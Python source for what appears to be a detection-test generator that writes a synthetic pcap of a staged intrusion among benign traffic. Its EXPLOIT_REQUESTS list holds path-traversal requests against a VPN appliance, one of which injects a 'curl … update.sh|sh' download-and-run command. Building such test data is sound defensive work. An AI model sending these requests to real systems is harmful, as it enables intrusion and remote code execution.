#!/usr/bin/env python3
"""Attack-scenario generator: writes a pcap of an intrusion (VPN appliance exploitation, scan
from the VPN pool, SMB mass collection, exfiltration, beaconing, DNS tunnelling, a segmentation
violation) among benign background traffic, plus truth.json (stages, data times, entities) and
zones.yaml (zones and policy). Deterministic: the same --seed, --size, --scale and --start give
byte-identical files. Standard library only.

    python3 tools/scenario/generate.py --seed 1 --size small --out /tmp/scn
"""

import argparse
import base64
import bisect
import datetime
import ipaddress
import json
import math
import os
import random
import string
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import netpkt  # noqa: E402
import protocols as P  # noqa: E402
from netpkt import Net, TcpConn  # noqa: E402

GENERATOR_VERSION = 2
DEFAULT_START = "2024-03-04T08:00:00Z"

SIZE_NAMES = ("tiny", "small", "medium", "large")
# Settings per --size, one column per size in SIZE_NAMES order.
SIZE_TABLE = {
    "duration": (1200, 2700, 5400, 10800),  # capture length, seconds of data time
    # Background. Host counts are multiplied by --scale; rates are sessions per host per hour.
    "research_hosts": (3, 12, 30, 60),
    "business_hosts": (4, 15, 40, 80),
    "vpn_users": (1, 4, 10, 20),
    "launch_hosts": (2, 4, 8, 12),
    "web_rate": (1.0, 3.0, 10.0, 10.0),
    "max_requests": (2, 6, 6, 6),  # HTTPS requests per connection
    "response_cap": (5_000, 40_000, 200_000, 250_000),  # largest response body, bytes
    "smb_rate": (0.4, 0.6, 1.0, 1.0),
    "smb_files": ((1, 4), (2, 12), (2, 12), (2, 12)),  # files a user reads per session
    "ssh_sessions": (1, 4, 10, 20),  # per admin host
    "ssh_keys": ((3, 10), (5, 40), (5, 40), (5, 40)),  # keystroke exchanges per session
    "vpn_burst_gap": (180, 30, 25, 25),  # mean seconds between VPN tunnel bursts
    "ping_interval": (900, 300, 300, 300),
    "ntp_interval": (1024, 1024, 1024, 1024),
    # Attack.
    "scan_hosts": (10, 60, 150, 250),  # stage (c) targets, 5 ports each
    "files": (30, 500, 3000, 10000),  # stage (d) files collected (--files overrides)
    "file_size": ((100, 600), (400, 32768), (400, 131072), (400, 131072)),  # min, max bytes
    "file_median": (350, 4000, 6000, 6000),
    "smb_workers": ((1, 1), (3, 1), (3, 1), (3, 1)),  # parallel sessions on fs1, rnd-fs2
    "list_dirs": (1, 4, 4, 4),  # QUERY_DIRECTORY listings per session
    "exfil_bytes": (16_000, 4_000_000, 25_000_000, 60_000_000),  # stage (e) upload
    "beacon_task_bytes": (600, 4000, 8000, 8000),  # stage (f) occasional larger response
    "tunnel_queries": (20, 300, 1000, 3000),  # stage (g)
    "mail_rate": (6, 12, 20, 30),  # benign mails per hour (workstation -> relay -> partner MX)
}
SIZES = {name: {k: v[i] for k, v in SIZE_TABLE.items()} for i, name in enumerate(SIZE_NAMES)}

# Network layout. The VPN appliance has a public address in the DMZ and an inside address.
ZONES = {
    "dmz": ["198.51.100.0/28", "10.0.0.0/24"],
    "vpn_pool": ["10.8.0.0/16"],
    "research": ["10.20.0.0/16"],
    "business": ["10.30.0.0/16"],
    "launch_ops": ["10.40.0.0/16"],
}
POLICY = {
    "forbidden": [
        {"from": "business", "to": "launch_ops"},
        {"from": "vpn_pool", "to": "launch_ops"},
        {"from": "dmz", "to": "launch_ops"},
        {"from": "internet", "to": "launch_ops"},
    ],
    "allowed_services": [
        {"from": "internet", "to": "dmz", "services": ["tcp/443", "tcp/80"]},
        {"from": "dmz", "to": "internet", "services": ["udp/53", "udp/123"]},
        {"from": "dmz", "to": "business", "services": ["tcp/636", "udp/53"]},
        {"from": "vpn_pool", "to": "business", "services": ["tcp/443", "tcp/445", "udp/53"]},
        {"from": "vpn_pool", "to": "research", "services": ["tcp/443", "tcp/22"]},
        {"from": "research", "to": "launch_ops", "services": ["tcp/22"]},
    ],
    "no_internet": ["launch_ops"],
}

# Fixed hosts.
VPN_PUBLIC = "198.51.100.10"
VPN_INSIDE = "10.0.0.10"
DC = "10.30.0.10"
RESOLVER = {
    "research": "10.20.0.2",
    "business": "10.30.0.2",
    "vpn_pool": "10.30.0.2",
    "launch_ops": "10.40.0.2",
    "dmz": "198.18.0.53",
}
UPSTREAM_DNS = "198.18.0.53"
NTP_INTERNAL = "10.30.0.3"
NTP_LAUNCH = "10.40.0.2"
NTP_PUBLIC = "198.18.0.123"
MONITOR = "10.30.0.9"
FS1 = ("10.20.0.5", "fs1", "projects", "RESEARCH")
FS_RND2 = ("10.20.0.6", "rnd-fs2", "archive", "RESEARCH")
FS_BUSINESS = ("10.30.0.5", "bfs1", "shared", "CORP")
INTRANET = "10.30.0.80"
GITLAB = "10.20.0.20"
RESEARCH_ADMIN = "10.20.1.5"
LAUNCH_ADMIN = "10.40.0.5"

# Attack entities.
ATTACKER = "203.0.113.66"
ATTACKER_INFRA = "192.0.2.77"
VPN_ATTACKER_ADDR = "10.8.3.17"
VPN_ATTACKER_USER = "jdoe"
VPN_ATTACKER_DOMAIN = "RESEARCH"
ATTACKER_WORKSTATION = "DESKTOP-7Q2M4KD"
STAGING_HOST = "10.20.7.44"
C2_IP = "192.0.2.200"
C2_SNI = "api.cloudsync-metrics.example"
STAGING_SHARE = (STAGING_HOST, "rs-ws-044", "C$", "RESEARCH")
EXFIL_IP = "203.0.113.150"
EXFIL_SNI = "files.sharebox-upload.example"
TUNNEL_HOST = "10.20.5.88"
TUNNEL_DOMAIN = "dataflux-cdn.example"
VIOLATOR = "10.30.12.34"
# Stage (i): an infostealer on a business workstation mails what it harvested to an outside
# mailbox, logging in to the mail server in the clear. Benign mail: the business relay sends
# to partners' MX hosts over STARTTLS; workstations hand their mail to the relay unencrypted.
STEALER_HOST = "10.30.21.77"
STEALER_NAME = "BIZ-WS-077"
MAIL_EXFIL_IP = "203.0.113.25"
MAIL_EXFIL_NAME = "mail.cheapmailhost.example"
MAIL_RELAY = "10.30.0.25"
PARTNER_MX = [("mx1.partner-lab.example", "198.18.77.25"), ("mx.supplier-one.example", "198.18.78.25")]
LAUNCH_TARGET = "10.40.1.20"

# Benign internet services: name -> (kind, ports). Addresses are assigned from 198.18.0.0/15.
SITES = [
    ("www.contoso.example", "tls"),
    ("login.contoso.example", "tls"),
    ("cdn.contoso.example", "tls"),
    ("outlook.fabrikam.example", "tls"),
    ("teams.fabrikam.example", "tls"),
    ("news.northwind.example", "tls"),
    ("docs.tailspin.example", "tls"),
    ("api.tailspin.example", "tls"),
    ("pkg.pkgmirror.example", "tls"),
    ("git.codehost.example", "tls"),
    ("weather.adatum.example", "tls"),
    ("maps.adatum.example", "tls"),
    ("update.osvendor.example", "http"),
    ("ocsp.trustca.example", "http"),
    ("www.woodgrove.example", "http"),
    ("static.litware.example", "tls"),
    ("telemetry.osvendor.example", "tls"),
    ("mail.fourthcoffee.example", "tls"),
]
CNAMES = {
    "cdn.contoso.example": "contoso.edge-cache.example",
    "static.litware.example": "litware.edge-cache.example",
}

FIRST_NAMES = [
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "grace",
    "heidi",
    "ivan",
    "judy",
    "mallory",
    "nina",
    "oscar",
    "peggy",
    "quinn",
    "rupert",
    "sybil",
    "trent",
    "ursula",
    "victor",
    "walter",
    "xena",
    "yara",
    "zoe",
]

EXPLOIT_REQUESTS = [
    (
        "GET",
        "/remote/login?lang=en",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
    ),
    (
        "GET",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "python-requests/2.31.0",
    ),
    ("GET", "/api/v1/totp/user-backup-code/../../system/system-information", "python-requests/2.31.0"),
    (
        "GET",
        "/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20-s%20http%3a%2f%2f192.0.2.77%2fbins%2fupdate.sh%7csh%3b",
        "python-requests/2.31.0",
    ),
]

PROJECTS = [
    "LV7-Guidance",
    "Propulsion-Test",
    "Telemetry",
    "Avionics-HIL",
    "Structures",
    "Thermal",
    "GNC-Sim",
    "Payload-Integration",
    "Ground-Support",
    "Flight-Software",
]
SUBDIRS = ["design", "reviews", "test-data", "reports", "cad", "specs", "minutes", "analysis"]
EXTS = [".pdf", ".docx", ".xlsx", ".step", ".csv", ".pptx", ".m", ".txt", ".zip", ".dat"]


def parse_time(text):
    dt = datetime.datetime.strptime(text, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=datetime.timezone.utc)
    return int(dt.timestamp()) * 1_000_000


def iso(t_us):
    dt = datetime.datetime.fromtimestamp(t_us // 1_000_000, tz=datetime.timezone.utc)
    return dt.strftime("%Y-%m-%dT%H:%M:%S") + ".%06dZ" % (t_us % 1_000_000)


S = 1_000_000  # one second in microseconds


class Scenario:
    def __init__(self, seed, size, scale=1.0, start_us=None, files=None):
        self.seed = seed
        self.size = size
        self.cfg = dict(SIZES[size])
        if files is not None:
            self.cfg["files"] = files
        self.scale = scale
        self.rng = random.Random(seed)
        self.start = parse_time(DEFAULT_START) if start_us is None else start_us
        self.end = self.start + self.cfg["duration"] * S
        self.zone_nets = [(z, ipaddress.ip_network(c)) for z, cidrs in ZONES.items() for c in cidrs]
        self.net = Net(self.rng, lambda ip: self.zone_of(ip) != "internet")
        self.stages = []
        self.client_dns_cache = {}
        self.resolver_cache = {}
        self.dist = {}
        self.dns_db = {}
        self._init_hosts()

    # ------------------------------------------------------------------ layout
    def zone_of(self, ip):
        a = ipaddress.ip_address(ip)
        best = None
        for z, n in self.zone_nets:
            if a in n and (best is None or n.prefixlen > best[1]):
                best = (z, n.prefixlen)
        return best[0] if best else "internet"

    def _init_hosts(self):
        rng = self.rng
        cfg = self.cfg
        h = self.net.host
        for ip in (FS1[0], FS_RND2[0], FS_BUSINESS[0], DC, INTRANET):
            h(ip, os="windows")
        for ip in (
            RESOLVER["research"],
            RESOLVER["business"],
            RESOLVER["launch_ops"],
            NTP_INTERNAL,
            MONITOR,
            GITLAB,
            RESEARCH_ADMIN,
            LAUNCH_ADMIN,
            VPN_INSIDE,
            UPSTREAM_DNS,
            NTP_PUBLIC,
        ):
            h(ip, os="linux")
        h(VPN_PUBLIC, os="linux")

        def pick(prefix, lo, hi, n, avoid):
            out = []
            while len(out) < n:
                ip = "%s.%d.%d" % (prefix, rng.randint(lo, hi), rng.randint(10, 250))
                if ip not in avoid and ip not in out:
                    out.append(ip)
            return out

        avoid = {
            STAGING_HOST,
            TUNNEL_HOST,
            VIOLATOR,
            LAUNCH_TARGET,
            VPN_ATTACKER_ADDR,
            RESEARCH_ADMIN,
            LAUNCH_ADMIN,
        }
        n_r = max(2, round(cfg["research_hosts"] * self.scale))
        n_b = max(2, round(cfg["business_hosts"] * self.scale))
        self.research_ws = pick("10.20", 2, 9, n_r, avoid)
        self.business_ws = pick("10.30", 10, 20, n_b, avoid)
        self.launch_hosts = [LAUNCH_TARGET] + pick("10.40", 1, 1, cfg["launch_hosts"] - 1, avoid)
        self.vpn_users = pick("10.8", 1, 2, max(1, round(cfg["vpn_users"] * self.scale)), avoid)
        for ip in self.research_ws + self.business_ws:
            h(ip, os="windows" if rng.random() < 0.8 else "linux")
        for ip in self.vpn_users:
            h(ip, os="windows", mss=1350)
        for ip in self.launch_hosts:
            h(ip, os="linux")
        h(STAGING_HOST, os="windows")
        h(TUNNEL_HOST, os="windows")
        h(VIOLATOR, os="windows")
        h(VPN_ATTACKER_ADDR, os="windows", mss=1350)
        self.vpn_user_public = {
            ip: "198.19.%d.%d" % (rng.randint(1, 254), rng.randint(1, 254)) for ip in self.vpn_users
        }
        self.users = {}
        names = list(FIRST_NAMES)
        rng.shuffle(names)
        for i, ip in enumerate(self.research_ws + self.business_ws + self.vpn_users):
            self.users[ip] = names[i % len(names)] + ("" if i < len(names) else str(i // len(names)))
        # Workstations the intruders use are ordinary ones: their users browse and share files too.
        self.compromised = [STAGING_HOST, TUNNEL_HOST, VIOLATOR]
        self.users.update({STAGING_HOST: "kwilson", TUNNEL_HOST: "lchen", VIOLATOR: "pmartin"})
        # Public DNS: benign sites on 198.18.0.0/16.
        for name, _kind in SITES:
            target = CNAMES.get(name, name)
            if target not in self.dns_db:
                self.dns_db[target] = [("A", "198.18.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)))]
            if target != name:
                self.dns_db[name] = [("CNAME", target)] + self.dns_db[target]
        self.dns_db[C2_SNI] = [("A", C2_IP)]
        self.dns_db[EXFIL_SNI] = [("A", EXFIL_IP)]
        internal = {
            "fs1.research.corp.example": FS1[0],
            "rnd-fs2.research.corp.example": FS_RND2[0],
            "bfs1.corp.example": FS_BUSINESS[0],
            "intranet.corp.example": INTRANET,
            "dc1.corp.example": DC,
            "gitlab.research.corp.example": GITLAB,
            "ntp.corp.example": NTP_INTERNAL,
        }
        for name, ip in internal.items():
            self.dns_db[name] = [("A", ip)]
        for i, ip in enumerate(self.launch_hosts):
            self.dns_db["ops%02d.launch.corp.example" % (i + 1)] = [("A", ip)]
        self.internal_names = set(internal) | {n for n in self.dns_db if n.endswith(".launch.corp.example")}

    def distance(self, ip):
        """One-way delay in microseconds from the sensor to a host."""
        d = self.dist.get(ip)
        if d is None:
            z = self.zone_of(ip)
            if z == "internet":
                d = self.rng.randint(6_000, 45_000)
            elif z == "vpn_pool":
                d = self.rng.randint(9_000, 18_000)
            else:
                d = self.rng.randint(80, 300)
            self.dist[ip] = d
        return d

    def rtt(self, a, b):
        return self.distance(a) + self.distance(b)

    def tcp(self, t, cli, srv, dport, sport=None):
        bw = 400e6
        zones = (self.zone_of(cli), self.zone_of(srv))
        if "internet" in zones:
            bw = 20e6
        elif "vpn_pool" in zones:
            bw = 30e6
        c = self.net.host(cli)
        s = self.net.host(srv)
        return TcpConn(self.net, c, s, dport, t, self.rtt(cli, srv), sport=sport, bandwidth=bw)

    def lognormal_size(self, median, cap, lo=64):
        return int(min(cap, max(lo, self.rng.lognormvariate(math.log(median), 1.0))))

    # ------------------------------------------------------------------ DNS
    def resolver_for(self, ip):
        return RESOLVER[self.zone_of(ip)]

    def answers_for(self, name, qtype):
        recs = self.dns_db.get(name)
        if recs is None or qtype != "A":
            return None
        out = []
        for rtype, val in recs:
            out.append((rtype, 300 if rtype == "A" else 3600, val))
        return out

    def lookup(self, t, client_ip, name, qtype="A", force=False):
        """Client query to its zone's resolver (forwarded upstream on a cache miss for public
        names). Returns (first A address or None, time the answer reached the client)."""
        key = (client_ip, name, qtype)
        recs = self.answers_for(name, qtype)
        addr = next((v for rt, _ttl, v in recs if rt == "A"), None) if recs else None
        if not force and cached(self.client_dns_cache, key, t):
            return addr, t
        net = self.net
        resolver_ip = self.resolver_for(client_ip)
        cli = net.host(client_ip)
        res = net.host(resolver_ip)
        qid = self.rng.getrandbits(16)
        sport = cli.ephemeral() if cli.os == "linux" else self.rng.randint(49152, 65535)
        net.udp(t, cli, sport, res, 53, P.dns_query(qid, name, qtype))
        t1 = t + self.distance(client_ip) + self.distance(resolver_ip)
        public = name not in self.internal_names and not name.endswith(".corp.example")
        if public and resolver_ip != UPSTREAM_DNS and self.zone_of(client_ip) != "launch_ops":
            rkey = (resolver_ip, name, qtype)
            if not cached(self.resolver_cache, rkey, t1):
                up = net.host(UPSTREAM_DNS)
                uq = self.rng.getrandbits(16)
                usport = self.rng.randint(1024, 65535)
                net.udp(t1 + 40, res, usport, up, 53, P.dns_query(uq, name, qtype))
                t1 += 40 + self.rtt(resolver_ip, UPSTREAM_DNS)
                net.udp(
                    t1,
                    up,
                    53,
                    res,
                    usport,
                    P.dns_response(uq, name, qtype, recs or [], rcode=0 if recs else 3),
                )
                bisect.insort(self.resolver_cache.setdefault(rkey, []), t1)
            t1 += 30
        else:
            t1 += 60
        net.udp(t1, res, 53, cli, sport, P.dns_response(qid, name, qtype, recs or [], rcode=0 if recs else 3))
        bisect.insort(self.client_dns_cache.setdefault(key, []), t1)
        return addr, t1 + self.distance(client_ip) + self.distance(resolver_ip)

    # ------------------------------------------------------------------ sessions
    def smtp_session(self, t, cli, srv, server_name, helo, mail_from, rcpts, message, auth=None,
                     starttls=False, port=25):
        """One SMTP connection: greeting, EHLO (STARTTLS and AUTH offered), then either STARTTLS
        and the mail inside TLS, or (optionally AUTH LOGIN and) one mail in the clear."""
        rng = self.rng
        c = self.tcp(t, cli, srv, port).handshake()
        c.send(False, b"220 %s ESMTP ready\r\n" % server_name, think=rng.randint(2_000, 40_000))
        caps = [b"250-" + server_name, b"250-SIZE 52428800", b"250-8BITMIME", b"250-PIPELINING",
                b"250-AUTH PLAIN LOGIN", b"250-STARTTLS", b"250 HELP"]
        c.exchange(b"EHLO %s\r\n" % helo, b"\r\n".join(caps) + b"\r\n", client_think=rng.randint(500, 5_000))
        if starttls:
            c.exchange(b"STARTTLS\r\n", b"220 2.0.0 Ready to start TLS\r\n")
            hello, hs = P.tls_client_hello(rng, server_name.decode(), "curl")
            c.exchange(hello, P.tls13_server_flight(rng, hs), server_think=rng.randint(200, 2000))
            c.send(True, P.tls13_client_finish(rng), think=200, ack_last=False)
            c.send(True, P.tls_app_data(rng, len(message) + 120), think=rng.randint(1_000, 20_000), ack_last=False)
            c.send(False, P.tls_app_data(rng, 90), think=rng.randint(2_000, 60_000))
            c.close(from_client=True, think=rng.randint(1_000, 10_000))
            return c
        if auth:
            user, password = (base64.b64encode(x.encode()) for x in auth)
            c.exchange(b"AUTH login " + user + b"\r\n", b"334 UGFzc3dvcmQ6\r\n")
            c.exchange(password + b"\r\n", b"235 Authentication succeeded\r\n", server_think=rng.randint(5_000, 80_000))
        c.exchange(b"MAIL FROM:<%s>\r\n" % mail_from.encode(), b"250 OK\r\n")
        for r in rcpts:
            c.exchange(b"RCPT TO:<%s>\r\n" % r.encode(), b"250 Accepted\r\n")
        c.exchange(b"DATA\r\n", b'354 Enter message, ending with "." on a line by itself\r\n')
        body = message.replace(b"\r\n.", b"\r\n..")
        c.exchange(body + b"\r\n.\r\n", b"250 OK id=%06x\r\n" % rng.getrandbits(24), server_think=rng.randint(5_000, 90_000))
        c.exchange(b"QUIT\r\n", b"221 closing connection\r\n")
        c.close(from_client=False)
        return c

    def mail_message(self, t, mail_from, rcpt, subject, text):
        date = P.http_date(t).replace("GMT", "+0000")
        lines = [
            "From: %s" % mail_from,
            "To: %s" % rcpt,
            "Date: %s" % date,
            "Subject: %s" % subject,
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=us-ascii",
            "",
        ] + text.split("\n")
        return "\r\n".join(lines).encode()

    def background_mail(self):
        """Benign mail, generated after everything else so that adding it left the random draws
        of the rest of the scenario unchanged."""
        rng = self.rng
        self.net.host(MAIL_RELAY, os="linux")
        self.dns_db["relay.corp.example"] = [("A", MAIL_RELAY)]
        self.internal_names.add("relay.corp.example")
        for name, ip in PARTNER_MX:
            self.dns_db[name] = [("A", ip)]
        senders = self.business_ws[:]
        for t in self.poisson_times(self.cfg["mail_rate"]):
            ws = rng.choice(senders)
            user = self.users.get(ws, "staff")
            name, mx = rng.choice(PARTNER_MX)
            rcpt = "%s@%s" % (rng.choice(FIRST_NAMES).lower(), name.split(".", 1)[1])
            text = "\n".join("Status of order %d: shipped." % rng.randint(1000, 9999) for _ in range(rng.randint(5, 60)))
            msg = self.mail_message(t, "%s@corp.example" % user, rcpt, "Order update", text)
            _, t1 = self.lookup(t, ws, "relay.corp.example")
            c = self.smtp_session(t1, ws, MAIL_RELAY, b"relay.corp.example", ("%s.corp.example" % user).encode(),
                                  "%s@corp.example" % user, [rcpt], msg)
            _, t2 = self.lookup(c.t + rng.randint(200_000, 3 * S), MAIL_RELAY, name)
            self.smtp_session(t2, MAIL_RELAY, mx, name.encode(), b"relay.corp.example",
                              "%s@corp.example" % user, [rcpt], msg, starttls=True)

    def tls_session(
        self,
        t,
        cli,
        srv,
        sni,
        requests,
        profile="browser",
        tls13=True,
        cert=None,
        port=443,
        close_by_client=True,
        idle=None,
    ):
        """Full TLS connection: handshake, `requests` list of (client bytes, server bytes)
        application exchanges, then FIN teardown. Returns the connection."""
        rng = self.rng
        c = self.tcp(t, cli, srv, port).handshake()
        hello, hs = P.tls_client_hello(rng, sni, profile)
        if tls13 and P.CLIENT_PROFILES[profile]["tls13"]:
            c.exchange(hello, P.tls13_server_flight(rng, hs), server_think=rng.randint(200, 2000))
            c.send(True, P.tls13_client_finish(rng), think=200, ack_last=False)
        else:
            c.exchange(
                hello, P.tls12_server_flight(rng, cert or BENIGN_CERT), server_think=rng.randint(200, 2000)
            )
            c.send(True, P.tls12_client_finish(rng), think=300, ack_last=False)
            c.send(False, P.tls12_server_finish(rng), think=rng.randint(200, 900))
        for i, (up, down) in enumerate(requests):
            c.send(
                True, P.tls_app_data(rng, up), think=rng.randint(1_000, 300_000) if i else 500, ack_last=False
            )
            c.send(False, P.tls_app_data(rng, down), think=rng.randint(2_000, 60_000))
        think = idle if idle is not None else rng.randint(50_000, 15 * S)
        if idle is None and rng.random() < 0.08:
            c.reset(from_client=True, think=think)  # browsers often abort idle connections
        else:
            c.close(from_client=close_by_client, think=think)
        return c

    def web_session(self, t, ip):
        rng = self.rng
        cap = self.cfg["response_cap"]
        name, kind = rng.choice(SITES)
        addr, t = self.lookup(t, ip, name)
        if kind == "http":
            c = self.tcp(t, ip, addr, 80).handshake()
            for _ in range(rng.randint(1, 3)):
                path = rng.choice(
                    [
                        "/",
                        "/index.html",
                        "/news/latest",
                        "/static/app.js",
                        "/updates/manifest.xml",
                        "/favicon.ico",
                    ]
                )
                req = P.http_request(
                    "GET",
                    path,
                    name,
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
                    extra=["Accept-Encoding: gzip, deflate", "Connection: keep-alive"],
                )
                textual = not path.endswith(".xml") or rng.random() < 0.5
                n = self.lognormal_size(3000, cap)
                if textual:
                    body = self.text_body(n)
                    resp = P.http_response(200, "OK", body, c.t, gzip_body=rng.random() < 0.6)
                else:
                    resp = P.http_response(
                        200, "OK", rng.randbytes(n), c.t, content_type="application/octet-stream"
                    )
                c.exchange(
                    req, resp, server_think=rng.randint(500, 40_000), client_think=rng.randint(1_000, 2 * S)
                )
            c.close(from_client=rng.random() < 0.5, think=rng.randint(100_000, 5 * S))
        else:
            reqs = [
                (self.lognormal_size(600, 4000, 200), self.lognormal_size(6000, cap))
                for _ in range(rng.randint(1, self.cfg["max_requests"]))
            ]
            tls13 = rng.random() < 0.75
            self.tls_session(
                t, ip, addr, name, reqs, profile="browser" if rng.random() < 0.85 else "curl", tls13=tls13
            )

    def text_body(self, n):
        words = [
            "launch",
            "schedule",
            "report",
            "meeting",
            "update",
            "the",
            "and",
            "of",
            "project",
            "status",
            "budget",
            "review",
            "customer",
            "weather",
            "news",
            "sports",
            "market",
            "travel",
            "team",
            "document",
        ]
        rng = self.rng
        out = []
        size = 0
        while size < n:
            w = rng.choice(words)
            out.append(w)
            size += len(w) + 1
        return ("<html><body><p>" + " ".join(out) + "</p></body></html>").encode()

    def smb_session(
        self,
        t,
        client_ip,
        server,
        user,
        domain,
        files,
        workers_delay=(20_000, 200_000),
        dirs=None,
        workstation=None,
        max_read=65536,
        writes=(),
    ):
        """One SMB2 session: NEGOTIATE, SESSION_SETUP (NTLMSSP in SPNEGO), TREE_CONNECT, optional
        directory listings, then CREATE/READ/CLOSE of each (path, size), CREATE/WRITE/CLOSE of each
        (path, size) in `writes`, TREE_DISCONNECT, LOGOFF."""
        rng = self.rng
        srv_ip, srv_name, share, srv_domain = server
        c = self.tcp(t, client_ip, srv_ip, 445).handshake()
        mid = 0
        sess = 0
        tree = 0

        def req(cmd, body, resp_body, status=0, charge=1, think=None):
            nonlocal mid
            rq = P.netbios(P.smb2_header(cmd, mid, sess, tree, credits=32, charge=charge) + body)
            rs = P.netbios(
                P.smb2_header(
                    cmd,
                    mid,
                    sess if cmd != P.SMB2_NEGOTIATE else 0,
                    tree,
                    status=status,
                    response=True,
                    credits=32,
                    charge=charge,
                )
                + resp_body
            )
            # The next request follows at once, so it carries the ACK of this response.
            c.send(True, rq, think=think if think is not None else rng.randint(50, 400), ack_last=False)
            c.send(False, rs, think=rng.randint(80, 900), ack_last=(think or 0) > 40_000)
            mid += charge

        req(
            P.SMB2_NEGOTIATE,
            P.smb2_negotiate_req(rng, c.t),
            P.smb2_negotiate_resp(rng.randbytes(16), c.t, self.start - 40 * 86400 * S),
        )
        tok1 = P.spnego_init(P.ntlm_negotiate())
        chal, info = P.ntlm_challenge(
            rng, c.t, srv_domain, srv_name.upper(), srv_domain.lower() + ".corp.example"
        )
        sess = rng.getrandbits(64) & 0x0000FFFFFFFFFFFF | 0x0000040000000001
        mid_before = mid
        rq = P.netbios(
            P.smb2_header(P.SMB2_SESSION_SETUP, mid, 0, 0, credits=32) + P.smb2_session_setup_req(tok1)
        )
        rs = P.netbios(
            P.smb2_header(
                P.SMB2_SESSION_SETUP,
                mid,
                sess,
                0,
                status=P.STATUS_MORE_PROCESSING_REQUIRED,
                response=True,
                credits=32,
            )
            + P.smb2_session_setup_resp(P.spnego_resp(1, P.OID_NTLMSSP, chal))
        )
        c.exchange(rq, rs, server_think=rng.randint(200, 1500), client_think=rng.randint(100, 500))
        mid = mid_before + 1
        auth = P.ntlm_authenticate(
            rng, c.t, domain, user, workstation or ("WS-" + client_ip.replace(".", "-")), info
        )
        req(
            P.SMB2_SESSION_SETUP,
            P.smb2_session_setup_req(P.spnego_resp(token=auth)),
            P.smb2_session_setup_resp(P.spnego_resp(0)),
        )
        tree = rng.randint(1, 15)
        tree_path = "\\\\%s\\%s" % (srv_name, share)
        req_tree = P.netbios(
            P.smb2_header(P.SMB2_TREE_CONNECT, mid, sess, 0, credits=32) + P.smb2_tree_connect_req(tree_path)
        )
        rs_tree = P.netbios(
            P.smb2_header(P.SMB2_TREE_CONNECT, mid, sess, tree, response=True, credits=32)
            + P.smb2_tree_connect_resp()
        )
        c.exchange(req_tree, rs_tree, server_think=rng.randint(200, 900), client_think=rng.randint(100, 500))
        mid += 1
        next_fid = rng.getrandbits(32)

        def file_id():
            nonlocal next_fid
            next_fid += rng.randint(1, 9)
            return struct.pack("<QQ", next_fid, rng.getrandbits(64))

        for d, entries in dirs or []:
            fid = file_id()
            req(
                P.SMB2_CREATE,
                P.smb2_create_req(d, directory=True),
                P.smb2_create_resp(fid, c.t, 0, directory=True),
                think=rng.randint(*workers_delay),
            )
            req(
                P.SMB2_QUERY_DIRECTORY,
                P.smb2_query_directory_req(fid),
                P.smb2_query_directory_resp(entries, c.t),
            )
            req(
                P.SMB2_QUERY_DIRECTORY,
                P.smb2_query_directory_req(fid),
                struct.pack("<HHI", 9, 0, 0) + b"\x00",
                status=P.STATUS_NO_MORE_FILES,
            )
            req(P.SMB2_CLOSE, P.smb2_close_req(fid), P.smb2_close_resp())
        bytes_read = 0
        for path, size in files:
            fid = file_id()
            req(
                P.SMB2_CREATE,
                P.smb2_create_req(path),
                P.smb2_create_resp(fid, c.t, size),
                think=rng.randint(*workers_delay),
            )
            off = 0
            while off < size:
                n = min(max_read, size - off)
                charge = (n + 65535) // 65536
                req(
                    P.SMB2_READ,
                    P.smb2_read_req(fid, n, off),
                    P.smb2_read_resp(rng.randbytes(n)),
                    charge=charge,
                )
                off += n
            bytes_read += size
            req(P.SMB2_CLOSE, P.smb2_close_req(fid), P.smb2_close_resp())
        for path, size in writes:
            fid = file_id()
            req(
                P.SMB2_CREATE,
                P.smb2_create_req(path, write=True),
                P.smb2_create_resp(fid, c.t, 0),
                think=rng.randint(*workers_delay),
            )
            for off in range(0, size, 65536):
                n = min(65536, size - off)
                req(P.SMB2_WRITE, P.smb2_write_req(fid, off, rng.randbytes(n)), P.smb2_write_resp(n))
            req(P.SMB2_CLOSE, P.smb2_close_req(fid), P.smb2_close_resp())
        req(P.SMB2_TREE_DISCONNECT, P.smb2_simple(), P.smb2_simple())
        tree = 0
        req(P.SMB2_LOGOFF, P.smb2_simple(), P.smb2_simple())
        c.close(from_client=True, think=rng.randint(1_000, 50_000))
        return c, bytes_read, tree_path

    def benign_smb(self, t, ip):
        rng = self.rng
        zone = self.zone_of(ip)
        server = FS1 if zone == "research" else FS_BUSINESS
        domain = "RESEARCH" if zone == "research" else "CORP"
        n = rng.randint(*self.cfg["smb_files"])
        files = []
        for _ in range(n):
            if server is FS1:
                path = "%s\\%s\\%s" % (rng.choice(PROJECTS), rng.choice(SUBDIRS), self.file_name())
            else:
                path = "%s\\%s" % (
                    rng.choice(["Finance", "HR", "Sales", "Templates", "Contracts"]),
                    self.file_name(),
                )
            cap = min(self.cfg["response_cap"], 65536)
            files.append((path, self.lognormal_size(min(6000, cap // 3), cap, 200)))
        name = "fs1.research.corp.example" if server is FS1 else "bfs1.corp.example"
        _, t = self.lookup(t, ip, name)
        self.smb_session(t, ip, server, self.users[ip], domain, files, workers_delay=(300_000, 20 * S))

    def file_name(self):
        rng = self.rng
        stem = "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(4, 9)))
        return "%s_%s_v%d%s" % (
            stem,
            rng.choice(["final", "draft", "rev", "2023", "2024", "notes"]),
            rng.randint(1, 12),
            rng.choice(EXTS),
        )

    def ssh_session(self, t, cli, srv):
        rng = self.rng
        c = self.tcp(t, cli, srv, 22).handshake()
        c.send(False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n", think=2_000, ack_last=False)
        c.send(True, b"SSH-2.0-OpenSSH_9.6\r\n", think=500, ack_last=False)
        c.send(True, P.ssh_kexinit(rng, server=False), think=200, ack_last=False)
        c.send(False, P.ssh_kexinit(rng, server=True), think=300, ack_last=False)
        c.send(True, P.ssh_ecdh_init(rng), think=300, ack_last=False)
        c.send(False, P.ssh_ecdh_reply(rng), think=2_000, ack_last=False)
